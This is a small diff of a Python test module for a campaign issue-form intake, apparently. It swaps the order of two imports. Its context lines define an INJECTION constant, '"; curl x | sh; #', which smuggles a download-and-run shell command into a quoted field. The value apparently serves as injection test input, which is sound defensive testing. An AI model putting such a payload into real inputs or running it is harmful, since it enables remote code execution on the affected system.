@@ -16,8 +16,8 @@ import yaml
 from campaign.data import dataset, yamlio
 from campaign.intake import issue_form
 from support.builders import ROOT, git, run
-from support.images import photo
 from support.github import FakeGitHub
+from support.images import photo
 
 TEMPLATES = ROOT / ".github" / "ISSUE_TEMPLATE"
 INJECTION = '"; curl x | sh; #'
